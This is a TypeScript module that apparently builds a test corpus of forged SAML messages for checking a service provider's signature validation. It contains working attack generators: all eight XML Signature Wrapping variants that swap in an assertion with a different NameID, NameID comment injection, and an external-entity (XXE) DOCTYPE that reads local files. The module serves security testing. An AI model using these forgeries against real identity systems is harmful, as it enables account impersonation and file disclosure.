/**
 * Forged and hand-made SAML Responses for the attack corpus, signed by Debian's `xmlsec1`: an
 * independent signer that shares no code with the service provider's validation
 * (@node-saml/node-saml over xml-crypto). Values are XML-escaped; instants have no milliseconds.
 *
 * Signing: a signature template (enveloped, exclusive c14n, RSA-SHA256, SHA-256 digest, the
 * certificate in KeyInfo) goes right after the element's Issuer (schema order), and
 * `xmlsec1 --sign --node-xpath` fills it, the ID attributes declared with `--id-attr`. Signing
 * both is the assertion first, then the response around it.
 *
 * Signature wrapping (XSW1 to XSW8, as named by SAML Raider after Somorovsky et al., "On
 * Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012): each keeps the original
 * signed element (so its signature still verifies over its ID) and puts an evil copy with
 * another NameID where a careless processor would read it. See `xsw`.
 */
import { execFileSync } from 'node:child_process';
import { createSign, randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { aptInstall } from './apt.js';

export const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const PERSISTENT = 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent';
const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';

export interface AssertionSpec {
  issuer: string;
  /** The Response's Issuer, when it differs from the assertion's (default: the same). */
  responseIssuer?: string;
  nameId: string;
  nameIdFormat?: string;
  audience: string;
  recipient: string;
  /** The Response's Destination (default: the recipient; null: none). */
  destination?: string | null;
  inResponseTo?: string;
  issueInstant: Date;
  notBefore: Date;
  notOnOrAfter: Date;
  sessionIndex?: string;
  attributes?: Record<string, string[]>;
  responseId?: string;
  assertionId?: string;
  statusCode?: string;
}

export interface SigningKey {
  keyPem: string;
  certPem: string;
}

export function ensureXmlsec(): void {
  aptInstall(['xmlsec1'], 'command -v xmlsec1 >/dev/null');
}

export const newId = (): string => `_${randomBytes(20).toString('hex')}`;
const esc = (v: string): string => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
const at = (d: Date): string => d.toISOString().replace(/\.\d{3}Z$/, 'Z');

/** The assertion element alone (`nameIdXml`: the NameID's content as raw XML, for comment injection). */
export function assertionXml(s: AssertionSpec, nameIdXml = esc(s.nameId)): string {
  const irt = s.inResponseTo === undefined ? '' : ` InResponseTo="${esc(s.inResponseTo)}"`;
  const attrs = Object.entries(s.attributes ?? {}).map(([name, values]) =>
    `<saml:Attribute Name="${esc(name)}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">${values.map((v) => `<saml:AttributeValue>${esc(v)}</saml:AttributeValue>`).join('')}</saml:Attribute>`).join('');
  return `<saml:Assertion xmlns:saml="${ASSERTION}" ID="${s.assertionId ?? newId()}" Version="2.0" IssueInstant="${at(s.issueInstant)}">`
    + `<saml:Issuer>${esc(s.issuer)}</saml:Issuer>`
    + `<saml:Subject><saml:NameID Format="${esc(s.nameIdFormat ?? PERSISTENT)}">${nameIdXml}</saml:NameID>`
    + `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="${at(s.notOnOrAfter)}" Recipient="${esc(s.recipient)}"${irt}/></saml:SubjectConfirmation></saml:Subject>`
    + `<saml:Conditions NotBefore="${at(s.notBefore)}" NotOnOrAfter="${at(s.notOnOrAfter)}"><saml:AudienceRestriction><saml:Audience>${esc(s.audience)}</saml:Audience></saml:AudienceRestriction></saml:Conditions>`
    + `<saml:AuthnStatement AuthnInstant="${at(s.issueInstant)}" SessionIndex="${esc(s.sessionIndex ?? newId())}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>`
    + (attrs === '' ? '' : `<saml:AttributeStatement>${attrs}</saml:AttributeStatement>`)
    + '</saml:Assertion>';
}

/** The whole Response, unsigned. */
export function responseXml(s: AssertionSpec, assertion = assertionXml(s)): string {
  const irt = s.inResponseTo === undefined ? '' : ` InResponseTo="${esc(s.inResponseTo)}"`;
  const dest = s.destination === null ? '' : ` Destination="${esc(s.destination ?? s.recipient)}"`;
  return `<samlp:Response xmlns:samlp="${PROTOCOL}" xmlns:saml="${ASSERTION}" ID="${s.responseId ?? newId()}" Version="2.0" IssueInstant="${at(s.issueInstant)}"${dest}${irt}>`
    + `<saml:Issuer>${esc(s.responseIssuer ?? s.issuer)}</saml:Issuer>`
    + `<samlp:Status><samlp:StatusCode Value="${esc(s.statusCode ?? 'urn:oasis:names:tc:SAML:2.0:status:Success')}"/></samlp:Status>`
    + assertion
    + '</samlp:Response>';
}

const TEMPLATE = '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
  + '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
  + '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
  + '<ds:Reference URI="#ID"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
  + '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue/></ds:Reference></ds:SignedInfo>'
  + '<ds:SignatureValue/><ds:KeyInfo><ds:X509Data><ds:X509Certificate/></ds:X509Data></ds:KeyInfo></ds:Signature>';

/**
 * A LogoutRequest from the IdP, unsigned (`destination` null: none; `nameIdXml`: the NameID's
 * content as raw XML, for whitespace or comments).
 */
export function logoutRequestXml(o: { issuer: string; destination: string | null; nameId: string; nameIdXml?: string; sessionIndex?: string; issueInstant: Date; notOnOrAfter?: Date; id?: string }): string {
  const dest = o.destination === null ? '' : ` Destination="${esc(o.destination)}"`;
  const until = o.notOnOrAfter === undefined ? '' : ` NotOnOrAfter="${at(o.notOnOrAfter)}"`;
  return `<samlp:LogoutRequest xmlns:samlp="${PROTOCOL}" xmlns:saml="${ASSERTION}" ID="${o.id ?? newId()}" Version="2.0" IssueInstant="${at(o.issueInstant)}"${dest}${until}>`
    + `<saml:Issuer>${esc(o.issuer)}</saml:Issuer><saml:NameID Format="${PERSISTENT}">${o.nameIdXml ?? esc(o.nameId)}</saml:NameID>`
    + (o.sessionIndex === undefined ? '' : `<samlp:SessionIndex>${esc(o.sessionIndex)}</samlp:SessionIndex>`)
    + '</samlp:LogoutRequest>';
}

/** The IdP's LogoutResponse to one of our LogoutRequests, unsigned (`destination` null: none). */
export function logoutResponseXml(o: { issuer: string; destination: string | null; inResponseTo?: string; issueInstant: Date; statusCode?: string; id?: string }): string {
  const dest = o.destination === null ? '' : ` Destination="${esc(o.destination)}"`;
  const irt = o.inResponseTo === undefined ? '' : ` InResponseTo="${esc(o.inResponseTo)}"`;
  return `<samlp:LogoutResponse xmlns:samlp="${PROTOCOL}" xmlns:saml="${ASSERTION}" ID="${o.id ?? newId()}" Version="2.0" IssueInstant="${at(o.issueInstant)}"${dest}${irt}>`
    + `<saml:Issuer>${esc(o.issuer)}</saml:Issuer>`
    + `<samlp:Status><samlp:StatusCode Value="${esc(o.statusCode ?? 'urn:oasis:names:tc:SAML:2.0:status:Success')}"/></samlp:Status>`
    + '</samlp:LogoutResponse>';
}

const TARGETS = {
  assertion: ['saml:Assertion', 'Assertion'], response: ['samlp:Response', 'Response'],
  logoutRequest: ['samlp:LogoutRequest', 'LogoutRequest'], logoutResponse: ['samlp:LogoutResponse', 'LogoutResponse'],
} as const;

/** Signs the Response, its (first) Assertion, a LogoutRequest or a LogoutResponse with `key`, by xmlsec1. */
export function sign(xml: string, key: SigningKey, target: keyof typeof TARGETS): string {
  const [tag, local] = TARGETS[target];
  const open = xml.indexOf(`<${tag} `);
  const id = /\bID="([^"]+)"/.exec(xml.slice(open))![1]!;
  const issuerEnd = xml.indexOf('</saml:Issuer>', open) + '</saml:Issuer>'.length;
  const templated = xml.slice(0, issuerEnd) + TEMPLATE.replace('#ID', `#${id}`) + xml.slice(issuerEnd);
  const dir = mkdtempSync(path.join(os.tmpdir(), 'strongroom-forge-'));
  try {
    const file = (name: string, content?: string) => {
      const p = path.join(dir, name);
      if (content !== undefined) writeFileSync(p, content);
      return p;
    };
    execFileSync('xmlsec1', [
      '--sign', '--privkey-pem', `${file('key.pem', key.keyPem)},${file('cert.pem', key.certPem)}`,
      '--id-attr:ID', `${ASSERTION}:Assertion`, '--id-attr:ID', `${PROTOCOL}:Response`, '--id-attr:ID', `${PROTOCOL}:LogoutRequest`, '--id-attr:ID', `${PROTOCOL}:LogoutResponse`,
      '--node-xpath', `//*[local-name()='${local}' and @ID='${id}']/*[local-name()='Signature']`,
      '--output', file('out.xml'), file('in.xml', templated),
    ], { stdio: ['ignore', 'ignore', 'pipe'] });
    return readFileSync(file('out.xml'), 'utf8').replace(/^<\?xml[^>]*>\s*/, '');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/**
 * The HTTP-Redirect binding (SAML bindings 3.4.4.1): the message deflated and base64-encoded, and
 * the query `SAMLRequest|SAMLResponse=…[&RelayState=…]&SigAlg=…` signed RSA-SHA256 with `key`
 * (node:crypto; the XML itself is not signed on this binding). Returns the query string.
 */
export function redirectQuery(kind: 'SAMLRequest' | 'SAMLResponse', xml: string, key: SigningKey, relayState?: string): string {
  const parts = [`${kind}=${encodeURIComponent(deflateRawSync(Buffer.from(xml, 'utf8')).toString('base64'))}`];
  if (relayState !== undefined) parts.push(`RelayState=${encodeURIComponent(relayState)}`);
  parts.push(`SigAlg=${encodeURIComponent(RSA_SHA256)}`);
  const signature = createSign('RSA-SHA256').update(parts.join('&')).sign(key.keyPem, 'base64');
  return `${parts.join('&')}&Signature=${encodeURIComponent(signature)}`;
}

export const signBoth = (xml: string, key: SigningKey): string => sign(sign(xml, key, 'assertion'), key, 'response');
export const encode = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');

const between = (xml: string, open: string, close: string): { start: number; end: number } => {
  const start = xml.indexOf(open);
  return { start, end: xml.indexOf(close, start) + close.length };
};

/** The first element `<tag …>…</tag>` of `xml`, whole. */
export function element(xml: string, tag: string): string {
  const { start, end } = between(xml, `<${tag} `, `</${tag}>`);
  return xml.slice(start, end);
}

/** An evil copy of an element: another ID, another NameID, its signature (if any) left out. */
function evil(el: string, nameId: string): string {
  return el.replace(/\bID="[^"]+"/, `ID="${newId()}"`).replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/, '').replace(/(<saml:NameID[^>]*>)[^<]*(<\/saml:NameID>)/, `$1${esc(nameId)}$2`);
}

/**
 * The eight wrapping attacks on `signed` (a Response whose Response and Assertion are signed, or
 * only its Assertion for XSW3 to XSW8):
 * 1. A new Response (evil assertion) whose Signature is the original's, holding the original Response.
 * 2. As 1, the original Response a sibling before the Signature (detached).
 * 3. An evil Assertion inserted before the signed one.
 * 4. An evil Assertion wrapping the signed one.
 * 5. The evil Assertion carries the original's Signature; the original (unsigned) is appended last.
 * 6. The evil Assertion's (copied) Signature holds the original Assertion.
 * 7. The signed Assertion moved into an Extensions element; the evil one in its place.
 * 8. The evil Assertion's Signature holds an Object with the original Assertion, its signature removed.
 */
export function xsw(variant: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8, signed: string, evilNameId: string): string {
  const assertion = element(signed, 'saml:Assertion');
  const bad = evil(assertion, evilNameId);
  const responseSig = /^<samlp:Response[^>]*>\s*<saml:Issuer>[^<]*<\/saml:Issuer>(<ds:Signature[\s\S]*?<\/ds:Signature>)/.exec(signed)?.[1];
  const assertionSig = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(assertion)?.[0] ?? '';
  switch (variant) {
    case 1:
    case 2: {
      const evilResponse = evil(signed.replace(assertion, bad), evilNameId).replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/, '');
      const head = /^<samlp:Response[^>]*>\s*<saml:Issuer>[^<]*<\/saml:Issuer>/.exec(evilResponse)![0];
      const sig = variant === 1 ? responseSig!.replace('</ds:Signature>', `${signed}</ds:Signature>`) : `${signed}${responseSig!}`;
      return evilResponse.replace(head, `${head}${sig}`);
    }
    case 3:
      return signed.replace(assertion, `${bad}${assertion}`);
    case 4:
      return signed.replace(assertion, bad.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
    case 5: {
      const badSigned = bad.replace('</saml:Issuer>', `</saml:Issuer>${assertionSig}`);
      return signed.replace(assertion, badSigned).replace('</samlp:Response>', `${assertion.replace(assertionSig, '')}</samlp:Response>`);
    }
    case 6:
      return signed.replace(assertion, bad.replace('</saml:Issuer>', `</saml:Issuer>${assertionSig.replace('</ds:Signature>', `${assertion}</ds:Signature>`)}`));
    case 7:
      return signed.replace(assertion, `<samlp:Extensions>${assertion}</samlp:Extensions>${bad}`);
    case 8:
      return signed.replace(assertion, bad.replace('</saml:Issuer>', `</saml:Issuer>${assertionSig.replace('</ds:Signature>', `<ds:Object>${assertion.replace(assertionSig, '')}</ds:Object></ds:Signature>`)}`));
  }
}

/** Prepends a DOCTYPE whose entity the NameID uses (an external one to `external` when given). */
export function withDoctype(xml: string, opts: { external?: string } = {}): string {
  const entity = opts.external === undefined ? '<!ENTITY who "admin@bank.test">' : `<!ENTITY who SYSTEM "file://${opts.external}">`;
  return `<!DOCTYPE samlp:Response [${entity}]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*(<\/saml:NameID>)/, '$1&who;$2')}`;
}
